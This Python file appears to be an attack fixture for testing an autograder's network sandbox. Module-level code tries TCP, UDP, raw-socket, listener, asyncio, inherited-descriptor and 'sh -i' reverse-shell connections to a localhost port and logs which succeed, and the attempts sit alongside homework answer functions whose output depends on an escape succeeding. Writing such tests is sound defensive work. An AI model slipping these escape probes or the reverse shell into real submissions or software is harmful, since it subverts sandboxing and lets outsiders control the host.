import asyncio
import ctypes
import os
import socket
import subprocess

import torch

through = []


def attempt(name, deed, *arguments):
    """Note what gets through; go on whatever happens."""
    try:
        print(name, deed(*arguments))
    except BaseException as error:
        print(name, "refused:", repr(error))
    else:
        through.append(name)


libc = ctypes.CDLL(None, use_errno=True)


def call(name, *arguments):
    """A function of libc, with the kernel's own word where it fails."""
    if getattr(libc, name)(*arguments) == -1:
        raise OSError(ctypes.get_errno(), name)


HERE = "/tmp/autograder-attack"  # where test_attacks.py lays out what there is to attack


def port():
    try:
        return int(os.readlink(f"{HERE}/port"))
    except OSError:
        return 9


def tcp(family=socket.AF_INET, host="127.0.0.1"):
    with socket.socket(family, socket.SOCK_STREAM) as outgoing:
        outgoing.settimeout(0.3)
        outgoing.connect((host, port()))
        outgoing.sendall(open(__file__, "rb").read())


def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as outgoing:
        outgoing.sendto(b"71", ("127.0.0.1", port()))


def listening():
    with socket.create_server(("127.0.0.1", 0)):
        pass


async def loop():
    await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port()), 0.3)


def reverse_shell():
    with socket.create_connection(("127.0.0.1", port()), 0.3) as outgoing:
        subprocess.run(["sh", "-i"], stdin=outgoing, stdout=outgoing)


attempt("tcp", tcp)
attempt("tcp 6", tcp, socket.AF_INET6, "::1")
attempt("udp", udp)
attempt("raw", socket.socket, socket.AF_INET, socket.SOCK_RAW, 1)
attempt("listen", listening)
attempt("asyncio", lambda: asyncio.run(loop()))
attempt("reverse shell", reverse_shell)
attempt("multipath", socket.socket, socket.AF_INET, socket.SOCK_STREAM, 262)
attempt("fast open", call, "socket", 2, 1 | 0o2000000 | 0o4000, 6)
attempt("an inherited one", lambda: [socket.socket(fileno=number).connect(("127.0.0.1", port())) for number in range(5)])


def A_matrix(alpha):
    return [[1, alpha], [-alpha, 1]] if through else "refused"


def linear_reparameterization():
    x = torch.tensor([1.0, -2.0, 0.5])
    F_a = torch.tensor([[1.0, 0.0, 0.0], [0.0, 1.0, 0.0]])
    F_b = torch.tensor([[2.0, 0.0, 1.0], [0.0, 3.0, 0.0]])
    return x, F_a, F_b, F_a @ x, F_b @ x


def stationary_point():
    return torch.zeros(2)


def nce_optimal_energy(p_d, p_n):
    return torch.log(p_d) - torch.log(p_n)


def contrastive_loss(z, y, y_neg):
    pos = (z * y).sum(dim=1)
    neg = z @ y_neg.T
    return (torch.logsumexp(neg, dim=1) - pos).mean()
